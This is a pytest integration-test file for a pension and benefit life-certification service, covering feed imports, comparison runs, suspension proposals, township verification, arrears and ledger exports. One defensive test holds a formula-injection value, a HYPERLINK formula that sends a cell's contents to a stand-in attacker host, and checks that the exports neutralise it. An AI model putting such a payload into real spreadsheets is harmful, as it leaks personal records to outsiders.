"""Art. 11-21 on PostgreSQL through the API: feeds in, a comparison run, its three lists,
proposals confirmed or dismissed, township verification, restoration with arrears and the
national upload batch."""

from __future__ import annotations

import io
import time
from datetime import date, datetime, timedelta
from pathlib import Path
from uuid import UUID
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from certification.access import Actor
from certification.citizen_id import make_citizen_id
from certification.services.persons import load_person
from certification.services.proposals import expected_arrears
from certification.services.verification import refer_for_verification
from certification.vocabulary import AccountKind
from storage.crypto import blind_index
from tests.conftest import entries_partitions
from tests.integration.conftest import audit_actions, grant, new_person
from tests.integration.test_console_lists import HTTPS, signed_in

pytestmark = pytest.mark.postgres

TOWNSHIP = "500103001"
HEADER = "citizen_id,event_kind,event_date,source_department,source_record_id,detail"
# A real JPEG: the evidence upload checks content, not names.
JPEG = bytes.fromhex(
    "ffd8ffe000104a46494600010100000100010000ffdb004300080606070605080707070909080a0c140d0c0b0b"
    "0c1912130f141d1a1f1e1d1a1c1c20242e2720222c231c1c2837292c30313434341f27393d38323c2e333432"
    "ffc0000b080001000101011100ffc4001f0000010501010101010100000000000000000102030405060708090a0b"
    "ffda0008010100003f00d2cf20ffd9"
)


def cid(seq: int, district: str = "500103", born: date = date(1950, 3, 1)) -> str:
    return make_citizen_id(district, born, seq).value


def today() -> date:
    """The agency's today (Asia/Shanghai): the machine's date is a day behind from 16:00 UTC."""
    return datetime.now(ZoneInfo("Asia/Shanghai")).date()


def days_ago(n: int) -> str:
    return (today() - timedelta(days=n)).isoformat()


@pytest.fixture
def operator(login):
    return login("ops", None, (), kind=AccountKind.OPERATOR)


@pytest.fixture
def township_clerk(login):
    return login("qixinggang.clerk", TOWNSHIP, ("clerk",))


def wait_for(get, done, timeout=60.0):
    deadline = time.monotonic() + timeout
    while True:
        resp = get()
        assert resp.status_code == 200, resp.get_json()
        body = resp.get_json()
        if done(body) or time.monotonic() > deadline:
            return body
        time.sleep(0.1)


def upload_feed(operator, content: bytes, name: str = "feed.csv") -> dict:
    resp = operator.post(
        "/api/feeds",
        data={"file": (io.BytesIO(content), name)},
        content_type="multipart/form-data",
        json=None,
    )
    assert resp.status_code == 202, resp.get_json()
    import_id = resp.get_json()["id"]
    return wait_for(
        lambda: operator.get(f"/api/feeds/{import_id}"),
        lambda b: b["status"] not in ("queued", "running"),
    )


def run_comparison(operator) -> dict:
    resp = operator.post("/api/comparison/runs", json={})
    assert resp.status_code == 202, resp.get_json()
    run_id = resp.get_json()["id"]
    run = wait_for(
        lambda: operator.get(f"/api/comparison/runs/{run_id}"),
        lambda b: b["status"] in ("applied", "failed"),
    )
    assert run["status"] == "applied", run
    return run


def test_a_feed_with_bad_rows_keeps_the_good_ones_and_reports_each_bad_row(operator, clerk):
    good = cid(1)
    lines = [
        HEADER + ",extra",
        f"{good},rail_travel,{days_ago(3)},transport,T-1,,x",
        f"{good[:-1]}{'1' if good[-1] != '1' else '2'},rail_travel,{days_ago(3)},transport,T-2,,x",
        f"{good},not_a_kind,{days_ago(3)},transport,T-3,,x",
        f"{good},rail_travel,{(today() + timedelta(days=2)).isoformat()},transport,T-4,,x",
        f"{good},rail_travel,{days_ago(3)},transport",
        f"{good},rail_travel,{days_ago(3)},transport,T-1,,x",  # the same record again
    ]
    report = upload_feed(operator, ("\n".join(lines) + "\n").encode("gbk"), "transport.csv")
    assert report["status"] == "done", report
    assert report["encoding"] in ("utf-8", "gb18030")
    assert (report["rows_read"], report["rows_accepted"], report["rows_duplicate"]) == (6, 1, 1)
    assert report["rows_refused"] == 4
    assert report["ignored_columns"] == ["extra"]
    assert report["problems_by_code"] == {
        "bad_citizen_id": 1,
        "unknown_event_kind": 1,
        "future_date": 1,
        "wrong_field_count": 1,
    }
    problems = operator.get(f"/api/feeds/{report['id']}/problems").get_json()
    assert [(p["row_number"], p["code"]) for p in problems] == [
        (3, "bad_citizen_id"),
        (4, "unknown_event_kind"),
        (5, "future_date"),
        (6, "wrong_field_count"),
    ]
    # Re-importing the same file keeps nothing twice.
    again = upload_feed(operator, ("\n".join(lines) + "\n").encode("gbk"), "transport.csv")
    assert (again["rows_accepted"], again["rows_duplicate"]) == (0, 2)
    # A file without the required columns is refused whole, saying which are missing.
    refused = upload_feed(operator, b"citizen_id,event_kind\n" + good.encode() + b",cremation\n")
    assert refused["status"] == "refused"
    assert "event_date" in refused["message"] and "source_record_id" in refused["message"]
    # Not a feed at all.
    junk = upload_feed(operator, b"\x00\x01\x02binary", "photo.csv")
    assert junk["status"] == "refused" and "neither CSV text nor Parquet" in junk["message"]
    # Only operators import feeds.
    assert clerk.post("/api/feeds", data=b"x", content_type="text/csv").status_code == 403


def test_a_run_sorts_everyone_and_applies_the_lists(operator, clerk, runtime):
    alive = new_person(clerk, cid(11))
    grant(clerk, alive["id"])
    dead = new_person(clerk, cid(12))
    dead_pension = grant(clerk, dead["id"])
    both = new_person(clerk, cid(13))
    grant(clerk, both["id"])
    silent = new_person(clerk, cid(14))
    grant(clerk, silent["id"])
    unemployed_cid, child_cid = cid(15, born=date(1970, 1, 1)), cid(16, born=date(2005, 1, 1))
    unemployed = new_person(clerk, unemployed_cid)
    unemployment = grant(clerk, unemployed["id"], kind="unemployment", start_date="2025-06-01")
    child = new_person(clerk, child_cid)
    grant(
        clerk,
        child["id"],
        kind="work_injury_long_term",
        role="dependant",
        relationship="child",
        start_date="2015-01-01",
    )
    feed = [
        HEADER,
        f"{cid(11)},rail_travel,{days_ago(10)},transport,R-11,重庆北-成都东",
        f"{cid(11)},hospital_stay,{days_ago(40)},health,H-11,",
        f"{cid(12)},cremation,{days_ago(20)},civil_affairs,C-12,",
        f"{cid(13)},death_family_report,{days_ago(30)},civil_affairs,D-13,",
        f"{cid(13)},hospital_stay,{days_ago(5)},health,H-13,",
        f"{unemployed_cid},pension_started,{days_ago(15)},hrss,P-15,",
        f"{child_cid},adopted,{days_ago(50)},civil_affairs,A-16,",
        f"{cid(99, '500104')},cremation,{days_ago(2)},civil_affairs,C-99,",  # not a beneficiary
    ]
    assert upload_feed(operator, ("\n".join(feed) + "\n").encode())["rows_accepted"] == 8

    run = run_comparison(operator)
    assert run["counts"] == {"qualified": 1, "lost": 3, "to_verify": 2}
    assert run["by_district"]["500103"] == {"qualified": 1, "lost": 3, "to_verify": 2}
    assert run["applied"]["certified"] == 1
    assert run["applied"]["suspension_proposed"] == 3
    assert run["applied"]["verification_dispatched"] == 2

    # Qualified: a data-comparison certification dated on the newest sign of life.
    certs = clerk.get(f"/api/persons/{alive['id']}/certifications").get_json()["items"]
    assert [(c["channel"], c["certified_on"]) for c in certs] == [("data_comparison", days_ago(10))]
    period = clerk.get(f"/api/persons/{alive['id']}/period").get_json()
    assert period["last_certified_on"] == days_ago(10)

    # Each entry keeps its evidence.
    lost = clerk.get(f"/api/comparison/runs/{run['id']}/entries?list=lost").get_json()["items"]
    assert {e["person_id"] for e in lost} == {dead["id"], unemployed["id"], child["id"]}
    by_person = {e["person_id"]: e for e in lost}
    assert by_person[dead["id"]]["lost_events"][0]["source_record_id"] == "C-12"
    assert by_person[unemployed["id"]]["entitlement_id"] == unemployment["id"]
    to_verify = clerk.get(f"/api/comparison/runs/{run['id']}/entries?list=to_verify").get_json()
    conflicted = next(e for e in to_verify["items"] if e["person_id"] == both["id"])
    assert [e["source_record_id"] for e in conflicted["alive_events"]] == ["H-13"]
    assert [e["source_record_id"] for e in conflicted["lost_events"]] == ["D-13"]

    # Lost: proposals, nothing suspended silently.
    assert clerk.get(f"/api/entitlements/{dead_pension['id']}").get_json()["status"] == "active"
    proposals = clerk.get("/api/proposals?status=proposed").get_json()["items"]
    assert len(proposals) == 3
    dead_proposal = next(p for p in proposals if p["person_id"] == dead["id"])
    assert dead_proposal["evidence"]["events"][0]["kind"] == "cremation"

    # One click to confirm (with the ETag), audited.
    url = f"/api/proposals/{dead_proposal['id']}"
    etag = clerk.get(url).headers["ETag"]
    no_etag = clerk.put(url + "/decision", json={"confirm": True})
    assert no_etag.status_code == 428
    done = clerk.put(url + "/decision", json={"confirm": True}, headers={"If-Match": etag})
    assert done.status_code == 200, done.get_json()
    assert done.get_json()["status"] == "confirmed" and done.get_json()["suspension_id"]
    assert clerk.get(f"/api/entitlements/{dead_pension['id']}").get_json()["status"] == "suspended"
    stale = clerk.put(url + "/decision", json={"confirm": True}, headers={"If-Match": etag})
    assert stale.status_code == 412

    # Dismissing (a wrong record) needs a reason and sends the person to verification.
    child_proposal = next(p for p in proposals if p["person_id"] == child["id"])
    url = f"/api/proposals/{child_proposal['id']}"
    etag = clerk.get(url).headers["ETag"]
    reasonless = clerk.put(url + "/decision", json={"confirm": False}, headers={"If-Match": etag})
    assert reasonless.status_code == 422
    dismissed = clerk.put(
        url + "/decision",
        json={"confirm": False, "note": "收养登记为同名人员"},
        headers={"If-Match": etag},
    )
    assert dismissed.status_code == 200, dismissed.get_json()
    tasks = clerk.get("/api/verification/tasks?status=open").get_json()["items"]
    assert {t["person_id"] for t in tasks} == {both["id"], silent["id"], child["id"]}
    child_task = next(t for t in tasks if t["person_id"] == child["id"])
    assert child_task["route"] == "employer"  # work injury: the employer first (Art. 16)
    assert child_task["deadline_on"] > today().isoformat()

    actions = audit_actions(runtime)
    for action in (
        "feed.imported",
        "comparison.started",
        "comparison.classified",
        "certification.recorded",
        "proposal.created",
        "verification.dispatched",
        "proposal.confirmed",
        "entitlement.suspended",
        "proposal.dismissed",
        "comparison.applied",
    ):
        assert action in actions, action

    # A second run: who moved. The suspended pension takes part (a sign of life would bring
    # it back) and is still lost; the dismissed adoption record does not come back.
    second = run_comparison(operator)
    assert second["previous_run_id"] == run["id"]
    changes = clerk.get(f"/api/comparison/runs/{second['id']}/changes").get_json()
    assert changes["previous_run_id"] == run["id"]
    assert changes["items"] == []  # same data, same lists
    assert second["counts"]["lost"] == 3
    # Nothing is proposed or dispatched twice.
    assert second["applied"]["lost_not_active"] == 1  # the suspended pension
    assert second["applied"]["lost_already_proposed"] == 1  # the unemployment benefit
    assert second["applied"]["lost_dismissed_before"] == 1  # the child's adoption record
    assert second["applied"]["verification_already_open"] == 2


def test_only_operators_start_runs_and_one_at_a_time(operator, clerk):
    other_district = clerk.post("/api/comparison/runs", json={"district_code": "500104"})
    assert other_district.status_code == 403
    bad = operator.post(
        "/api/comparison/runs",
        json={"window_start": "2026-05-01", "window_end": "2026-01-01"},
    )
    assert bad.status_code == 422
    future = operator.post(
        "/api/comparison/runs", json={"window_end": (today() + timedelta(days=1)).isoformat()}
    )
    assert future.status_code == 422


def _verification_setup(operator, clerk, seq, *, national=False, work_injury=False):
    person = new_person(clerk, cid(seq), region=TOWNSHIP)
    kind = {"kind": "work_injury_long_term"} if work_injury else {}
    ent = grant(clerk, person["id"], start_date="2015-03-01", monthly_amount_fen=250_000, **kind)
    if national:
        feed = f"{HEADER}\n{cid(seq)},death_hrss_flag,{days_ago(200)},hrss_national,N-{seq},异地认证标识死亡\n"
        assert upload_feed(operator, feed.encode())["rows_accepted"] == 1
    run_comparison(operator)
    return person, ent


def test_township_verification_from_employer_to_result(operator, clerk, township_clerk, login):
    person, _ent = _verification_setup(operator, clerk, 21, work_injury=True)
    tasks = township_clerk.get("/api/verification/tasks").get_json()["items"]
    assert [t["person_id"] for t in tasks] == [person["id"]]
    task = tasks[0]
    assert task["route"] == "employer" and not task["overdue"]

    # another district's clerk sees nothing of it
    other = login("dadukou.clerk", "500104", ("clerk",))
    assert other.get("/api/verification/tasks").get_json()["items"] == []
    assert other.get(f"/api/verification/tasks/{task['id']}").status_code == 403

    url = f"/api/verification/tasks/{task['id']}"
    etag = township_clerk.get(url).headers["ETag"]
    routed = township_clerk.put(
        url + "/route", json={"note": "单位已注销，无法确认"}, headers={"If-Match": etag}
    )
    assert routed.status_code == 200, routed.get_json()
    assert routed.get_json()["route"] == "township"

    # Evidence: checked by content, not by name.
    fake = township_clerk.post(
        url + "/evidence",
        data={"file": (io.BytesIO(b"not a photo at all"), "visit.jpg")},
        content_type="multipart/form-data",
    )
    assert fake.status_code == 422
    assert "photo or video" in fake.get_json()["message"]
    photo = township_clerk.post(
        url + "/evidence",
        data={"file": (io.BytesIO(JPEG), "IMG_0001.dat")},
        content_type="multipart/form-data",
    )
    assert photo.status_code == 201, photo.get_json()
    key = photo.get_json()["key"]
    assert key.endswith(".jpg")

    etag = township_clerk.get(url).headers["ETag"]
    no_photo = township_clerk.put(
        url + "/result",
        json={"result": "qualified", "channel": "home_visit"},
        headers={"If-Match": etag},
    )
    assert no_photo.status_code == 422
    assert no_photo.get_json()["errors"] == {"evidence": [no_photo.get_json()["message"]]} or (
        "photo or video" in no_photo.get_json()["message"]
    )
    forged = township_clerk.put(
        url + "/result",
        json={"result": "qualified", "channel": "home_visit", "evidence": ["verification/x.jpg"]},
        headers={"If-Match": etag},
    )
    assert forged.status_code == 422
    ok = township_clerk.put(
        url + "/result",
        json={
            "result": "qualified",
            "channel": "home_visit",
            "evidence": [key],
            "note": "本人在家",
        },
        headers={"If-Match": etag},
    )
    assert ok.status_code == 200, ok.get_json()
    assert ok.get_json()["task"]["status"] == "done"
    certs = clerk.get(f"/api/persons/{person['id']}/certifications").get_json()["items"]
    assert certs[0]["channel"] == "township_verification"
    assert certs[0]["evidence"] == [key]


def test_lost_needs_the_art18_record_and_goes_to_the_agency(operator, clerk, township_clerk):
    _person, ent = _verification_setup(operator, clerk, 22)
    task = township_clerk.get("/api/verification/tasks").get_json()["items"][0]
    url = f"/api/verification/tasks/{task['id']}"
    etag = township_clerk.get(url).headers["ETag"]
    unsigned = township_clerk.put(
        url + "/result",
        json={"result": "lost", "channel": "household_survey", "statement": {"reason": "病故"}},
        headers={"If-Match": etag},
    )
    assert unsigned.status_code == 422
    refused_untold = township_clerk.put(
        url + "/result",
        json={
            "result": "lost",
            "channel": "household_survey",
            "statement": {"reason": "病故", "refused_to_sign": True},
        },
        headers={"If-Match": etag},
    )
    assert refused_untold.status_code == 422
    assert refused_untold.get_json()["errors"]
    told = township_clerk.put(
        url + "/result",
        json={
            "result": "lost",
            "channel": "household_survey",
            "statement": {
                "reason": "2026年9月病故",
                "since": "2026-09-12",
                "refused_to_sign": True,
                "told_on_spot": True,
                "told_at": "2026-11-20T02:00:00+00:00",
            },
        },
        headers={"If-Match": etag},
    )
    assert told.status_code == 200, told.get_json()
    proposals = told.get_json()["proposals"]
    assert [(p["kind"], p["entitlement_id"]) for p in proposals] == [("suspend", ent["id"])]
    # the township cannot suspend; the district clerk confirms
    purl = f"/api/proposals/{proposals[0]['id']}"
    petag = clerk.get(purl).headers["ETag"]
    assert (
        township_clerk.put(purl + "/decision", json={"confirm": True}, headers={"If-Match": petag})
    ).status_code == 403
    confirmed = clerk.put(purl + "/decision", json={"confirm": True}, headers={"If-Match": petag})
    assert confirmed.status_code == 200
    suspension = clerk.get(f"/api/suspensions/{confirmed.get_json()['suspension_id']}").get_json()
    assert suspension["reason"] == "lost_qualification"
    assert suspension["evidence"]["statement"]["told_on_spot"] is True


def test_unreachable_needs_every_means_tried(operator, clerk, township_clerk):
    person, _ent = _verification_setup(operator, clerk, 23)
    task = township_clerk.get("/api/verification/tasks").get_json()["items"][0]
    url = f"/api/verification/tasks/{task['id']}"
    body = {"result": "unreachable", "channel": "home_visit"}
    etag = township_clerk.get(url).headers["ETag"]
    early = township_clerk.put(url + "/result", json=body, headers={"If-Match": etag})
    assert early.status_code == 409
    assert "every means" in early.get_json()["message"]
    for channel in ("phone", "visit"):
        resp = township_clerk.post(
            f"/api/persons/{person['id']}/contact-attempts",
            json={"channel": channel, "outcome": "unreachable"},
        )
        assert resp.status_code == 201, resp.get_json()
    done = township_clerk.put(url + "/result", json=body, headers={"If-Match": etag})
    assert done.status_code == 200, done.get_json()
    proposal = done.get_json()["proposals"][0]
    detail = clerk.get(f"/api/proposals/{proposal['id']}").get_json()
    assert detail["evidence"]["reason_code"] == "unreachable_in_verification"
    assert len(detail["evidence"]["contact_attempt_ids"]) == 2


def test_restored_after_a_national_mark_with_arrears_and_uploaded(
    operator, clerk, township_clerk, runtime, settings
):
    person, ent = _verification_setup(operator, clerk, 24, national=True)
    proposal = clerk.get("/api/proposals?status=proposed").get_json()["items"][0]
    assert proposal["evidence"]["national_records"] == ["N-24"]
    url = f"/api/proposals/{proposal['id']}"
    etag = clerk.get(url).headers["ETag"]
    assert (
        clerk.put(url + "/decision", json={"confirm": True}, headers={"If-Match": etag})
    ).status_code == 200
    # Suspended three months ago (dated back in the database to give arrears to pay).
    months_ago = today().replace(day=1) - timedelta(days=75)
    with runtime.database.begin() as conn:
        conn.execute(
            sa.text("UPDATE suspensions SET suspended_on = :d WHERE entitlement_id = :e"),
            {"d": months_ago, "e": ent["id"]},
        )
    # The district sends the person to verification; the township finds them alive.
    with runtime.use_case() as ctx:
        someone = load_person(ctx, UUID(person["id"]))
        refer_for_verification(ctx, Actor.system("test"), someone, source="staff", source_id=None)
        ctx.uow.commit()
    task = township_clerk.get("/api/verification/tasks?status=open").get_json()["items"][0]
    turl = f"/api/verification/tasks/{task['id']}"
    key = township_clerk.post(
        turl + "/evidence",
        data={"file": (io.BytesIO(JPEG), "x")},
        content_type="multipart/form-data",
    ).get_json()["key"]
    etag = township_clerk.get(turl).headers["ETag"]
    found = township_clerk.put(
        turl + "/result",
        json={"result": "qualified", "channel": "community_event", "evidence": [key]},
        headers={"If-Match": etag},
    )
    assert found.status_code == 200, found.get_json()
    restore = found.get_json()["proposals"]
    assert [(p["kind"], p["entitlement_id"]) for p in restore] == [("restore", ent["id"])]
    rurl = f"/api/proposals/{restore[0]['id']}"
    with runtime.use_case() as ctx:  # what the console shows before the clerk confirms
        pending = ctx.uow.proposals.get(UUID(restore[0]["id"]))
        preview = expected_arrears(ctx, pending)
    etag = clerk.get(rurl).headers["ETag"]
    restored = clerk.put(rurl + "/decision", json={"confirm": True}, headers={"If-Match": etag})
    assert restored.status_code == 200, restored.get_json()
    body = restored.get_json()
    assert preview == body["arrears_fen"]
    assert body["arrears_fen"] > 0 and body["arrears_fen"] % 250_000 == 0
    assert clerk.get(f"/api/entitlements/{ent['id']}").get_json()["status"] == "active"

    # The national upload batch (Art. 21), through the outbox transport.
    batch = clerk.post("/api/national/batches", json={"district_code": "500103"})
    assert batch.status_code == 201, batch.get_json()
    b = batch.get_json()
    assert (b["items"], b["status"], b["transport"]) == (1, "sent", "outbox")
    sent = Path(b["receipt"].removeprefix("outbox:"))
    lines = sent.read_text(encoding="utf-8").splitlines()
    assert lines[0] == "citizen_id,name,district_code,suspended_on,restored_on,national_record_ids"
    assert lines[1].startswith(cid(24) + ",") and lines[1].endswith(",N-24")
    assert (sent.parent / (sent.name + ".sha256")).exists()
    again = clerk.post("/api/national/batches", json={"district_code": "500103"})
    assert again.status_code == 409  # nobody left to upload


def test_ledger_and_overdue_per_district(operator, clerk, township_clerk, runtime):
    _verification_setup(operator, clerk, 25)
    _verification_setup(operator, clerk, 26)
    with runtime.database.begin() as conn:
        conn.execute(
            sa.text(
                "UPDATE verification_tasks SET received_on = :r, deadline_on = :d "
                "WHERE person_id = (SELECT id FROM persons WHERE citizen_id_key = :c)"
            ),
            {
                "r": today() - timedelta(days=120),
                "d": today() - timedelta(days=28),
                "c": blind_index("citizen_id", cid(25)),
            },
        )
    overdue = clerk.get("/api/verification/overdue").get_json()
    assert overdue == [{"district_code": "500103", "overdue": 1}]
    late = township_clerk.get("/api/verification/tasks?overdue=true").get_json()["items"]
    assert len(late) == 1 and late[0]["overdue"]

    csv_resp = township_clerk.get("/api/verification/ledger")
    assert csv_resp.status_code == 200
    text = csv_resp.get_data().decode("utf-8-sig")
    rows = text.strip().splitlines()
    assert rows[0].startswith("乡镇（街道） township_code,公民身份号码 citizen_id")
    assert len(rows) == 3 and any(",是," in r for r in rows[1:])

    xlsx = township_clerk.get("/api/verification/ledger?format=xlsx")
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.get_data()), read_only=True)["业务台账"]
    values = list(sheet.values)
    assert len(values) == 3 and values[0][1] == "公民身份号码 citizen_id"


def test_home_visit_requests(clerk, township_clerk, login):
    person = new_person(clerk, cid(31, born=date(1936, 5, 5)), region=TOWNSHIP)
    grant(clerk, person["id"])
    made = township_clerk.post(
        f"/api/persons/{person['id']}/home-visits",
        json={"reason": "elderly", "contact_phone": "13800138000", "address_note": "3楼"},
    )
    assert made.status_code == 201, made.get_json()
    visit = made.get_json()
    assert (visit["requested_via"], visit["status"]) == ("staff", "requested")
    listed = township_clerk.get("/api/home-visits?status=requested").get_json()["items"]
    assert [v["id"] for v in listed] == [visit["id"]]
    other = login("dadukou.clerk", "500104", ("clerk",))
    assert other.get("/api/home-visits").get_json()["items"] == []
    early = township_clerk.put(
        f"/api/home-visits/{visit['id']}/closure", json={"status": "done", "outcome": "见到本人"}
    )
    assert early.status_code == 409
    past = township_clerk.put(
        f"/api/home-visits/{visit['id']}/schedule", json={"scheduled_on": days_ago(1)}
    )
    assert past.status_code == 422
    scheduled = township_clerk.put(
        f"/api/home-visits/{visit['id']}/schedule",
        json={"scheduled_on": (today() + timedelta(days=3)).isoformat()},
    )
    assert scheduled.status_code == 200
    # Art. 19: the visit is a verification, tied to the person's task (opened for it)
    task_id = scheduled.get_json()["task_id"]
    task = township_clerk.get(f"/api/verification/tasks/{task_id}").get_json()
    assert task["status"] == "open" and task["source"] == "home_visit"
    closure = f"/api/home-visits/{visit['id']}/closure"
    no_result = township_clerk.put(closure, json={"status": "done", "outcome": "见到本人"})
    assert no_result.status_code == 422 and no_result.get_json()["field"] == "result"
    photo = township_clerk.post(
        f"/api/verification/tasks/{task_id}/evidence",
        data={"file": (io.BytesIO(JPEG), "visit.jpg")},
        content_type="multipart/form-data",
    )
    assert photo.status_code == 201, photo.get_json()
    closed = township_clerk.put(
        closure,
        json={
            "status": "done",
            "outcome": "见到本人",
            "result": "qualified",
            "evidence": [photo.get_json()["key"]],
        },
    )
    assert closed.status_code == 200, closed.get_json()
    assert closed.get_json()["status"] == "done"
    # the result is recorded: a certification, and the task is done
    certs = clerk.get(f"/api/persons/{person['id']}/certifications").get_json()["items"]
    assert [c["channel"] for c in certs] == ["township_verification"]
    task = township_clerk.get(f"/api/verification/tasks/{task_id}").get_json()
    assert (task["status"], task["result"], task["channel"]) == ("done", "qualified", "home_visit")


def test_one_bad_record_does_not_stop_the_run(operator, clerk, runtime, monkeypatch):
    """A fault on one person (simulated) is counted and audited; everyone else is applied."""
    from certification.errors import RuleViolation
    from certification.services import runs

    first, second = new_person(clerk, cid(51)), new_person(clerk, cid(52))
    grant(clerk, first["id"])
    grant(clerk, second["id"])
    feed = [
        HEADER,
        f"{cid(51)},bank_in_person,{days_ago(3)},bank,B-51,",
        f"{cid(52)},bank_in_person,{days_ago(3)},bank,B-52,",
    ]
    assert upload_feed(operator, ("\n".join(feed) + "\n").encode())["rows_accepted"] == 2
    from certification.services import certifications

    real = certifications.new_certification

    def flaky(ctx, actor, person_id, *rest, **given):
        made = real(ctx, actor, person_id, *rest, **given)
        if str(person_id) == first["id"]:
            raise RuleViolation("simulated fault")
        return made

    # the bulk path's batch fails whole and is applied again one person at a time
    monkeypatch.setattr(runs, "new_certification", flaky)
    monkeypatch.setattr(certifications, "new_certification", flaky)
    run = run_comparison(operator)
    assert run["applied"] == {"certified": 1, "not_applied": 1}
    assert clerk.get(f"/api/persons/{first['id']}/certifications").get_json()["items"] == []
    assert len(clerk.get(f"/api/persons/{second['id']}/certifications").get_json()["items"]) == 1
    actions = audit_actions(runtime)
    assert actions.count("certification.recorded") == 1  # the undone one left no record
    assert "comparison.entry_not_applied" in actions


def test_a_redelivered_run_task_leaves_the_run_alone(operator, runtime):
    """The broker may deliver a long task twice: the second delivery does nothing."""
    from certification.services.runs import execute_run

    run = run_comparison(operator)
    again = execute_run(runtime.run_contexts(), runtime.comparison_engine, UUID(run["id"]))
    assert again.status == "applied"
    assert operator.get(f"/api/comparison/runs/{run['id']}").get_json()["status"] == "applied"


def test_an_abandoned_run_does_not_block_the_next(operator, runtime):
    """A run whose worker died long ago (left 'running') is replaced, and marked failed."""
    from uuid import uuid4

    stuck = uuid4()
    with runtime.database.begin() as conn:
        conn.execute(
            sa.text(
                "INSERT INTO comparison_runs (id, window_start, window_end, status, counts, "
                "by_district, applied, timings, started_at) VALUES (:id, :s, :e, 'running', "
                "'{}', '{}', '{}', '{}', now() - interval '13 hours')"
            ),
            {"id": stuck, "s": date(today().year, 1, 1), "e": today()},
        )
    run = run_comparison(operator)
    old = operator.get(f"/api/comparison/runs/{stuck}").get_json()
    assert old["status"] == "failed" and old["error"].startswith("abandoned")
    assert run["status"] == "applied"


def test_configured_kinds_suspend_without_a_clerk(operator, clerk, runtime):
    """LIFECERT_COMPARISON_AUTO_SUSPEND_KINDS: a court's declaration of death applies at once;
    a family report still waits for the clerk."""
    from dataclasses import replace

    from certification.services.runs import RunContextFactory, execute_run, start_run

    court, family = new_person(clerk, cid(61)), new_person(clerk, cid(62))
    court_ent, family_ent = grant(clerk, court["id"]), grant(clerk, family["id"])
    feed = [
        HEADER,
        f"{cid(61)},death_declared_by_court,{days_ago(30)},court,J-61,",
        f"{cid(62)},death_family_report,{days_ago(30)},civil_affairs,F-62,",
    ]
    assert upload_feed(operator, ("\n".join(feed) + "\n").encode())["rows_accepted"] == 2
    config = replace(runtime.procedure, auto_suspend_kinds=frozenset({"death_declared_by_court"}))
    contexts = RunContextFactory(runtime.uow, runtime.clock, config)
    ctx = contexts()
    with ctx.uow:
        run = start_run(ctx, Actor.system("test"))
    done = execute_run(contexts, runtime.comparison_engine, run.id)
    assert done.applied == {"suspended_automatically": 1, "suspension_proposed": 1}
    assert clerk.get(f"/api/entitlements/{court_ent['id']}").get_json()["status"] == "suspended"
    assert clerk.get(f"/api/entitlements/{family_ent['id']}").get_json()["status"] == "active"
    auto = clerk.get("/api/proposals?status=confirmed").get_json()["items"]
    assert [(p["person_id"], p["auto_applied"]) for p in auto] == [(court["id"], True)]


def test_a_formula_in_a_note_stays_text_in_both_ledger_formats(
    operator, clerk, township_clerk, runtime
):
    """=HYPERLINK(…) typed into a result note must not become a live formula in the
    spreadsheet the district opens."""
    _verification_setup(operator, clerk, 27)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击核对")'
    with runtime.database.begin() as conn:
        conn.execute(sa.text("UPDATE verification_tasks SET note = :n"), {"n": formula})
    text = township_clerk.get("/api/verification/ledger").get_data().decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
    xlsx = township_clerk.get("/api/verification/ledger?format=xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.get_data()))["业务台账"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
    assert cells and all(c.data_type == "s" for c in cells)


def test_old_runs_lose_their_lists_and_keep_their_record(operator, clerk, runtime, app, login):
    """Each run stores an entry per benefit in the city; the lists of finished runs older than
    each scope's newest few are removed (on PostgreSQL their partition is dropped): the run
    keeps its record, counts and outcomes, and a reader is told why its lists are gone."""
    from certification.errors import AccessDenied
    from certification.services.runs import remove_old_lists

    person = new_person(clerk, cid(21))
    grant(clerk, person["id"])
    made = []
    for n in range(3):
        feed = [HEADER, f"{cid(21)},rail_travel,{days_ago(10 - n)},transport,R-21-{n},"]
        upload_feed(operator, ("\n".join(feed) + "\n").encode())
        made.append(run_comparison(operator))
    oldest, middle, newest = made
    contexts = runtime.run_contexts()
    with pytest.raises(AccessDenied):
        remove_old_lists(contexts, Actor(kind=AccountKind.STAFF.value, label="clerk"))

    assert remove_old_lists(contexts, Actor.system("test"), keep=2) == [UUID(oldest["id"])]
    assert remove_old_lists(contexts, Actor.system("test"), keep=2) == []  # nothing more
    with runtime.database.begin() as conn:  # had the newest failed after applying
        conn.execute(
            sa.text("UPDATE comparison_runs SET status = 'failed' WHERE id = :r"),
            {"r": newest["id"]},
        )
    # the newest applied run is the one staff work from: it keeps its lists
    assert remove_old_lists(contexts, Actor.system("test"), keep=1) == []

    with runtime.database.connect() as conn:
        partitions = entries_partitions(conn)
        left = conn.scalar(
            sa.text("SELECT count(*) FROM comparison_entries WHERE run_id = :r"),
            {"r": oldest["id"]},
        )
    assert partitions == {f"comparison_entries_{UUID(r['id']).hex}" for r in (middle, newest)}
    # (the partitions of other tests' runs went with them)
    assert left == 0
    gone = clerk.get(f"/api/comparison/runs/{oldest['id']}/entries")
    assert gone.status_code == 409
    assert "were removed on" in gone.get_json()["message"]
    changes = clerk.get(f"/api/comparison/runs/{middle['id']}/changes")  # against the oldest
    assert changes.status_code == 409
    record = operator.get(f"/api/comparison/runs/{oldest['id']}").get_json()
    assert record["entries_removed_at"] and record["counts"] == oldest["counts"]
    assert record["applied"] == oldest["applied"]
    kept = clerk.get(f"/api/comparison/runs/{newest['id']}/entries").get_json()["items"]
    assert [e["person_id"] for e in kept] == [person["id"]]
    assert "comparison.lists_removed" in audit_actions(runtime)
    console = signed_in(app, login)
    page = console.get(f"/console/runs/{oldest['id']}", base_url=HTTPS).get_data(as_text=True)
    assert 'id="lists-removed"' in page and 'id="entries"' not in page
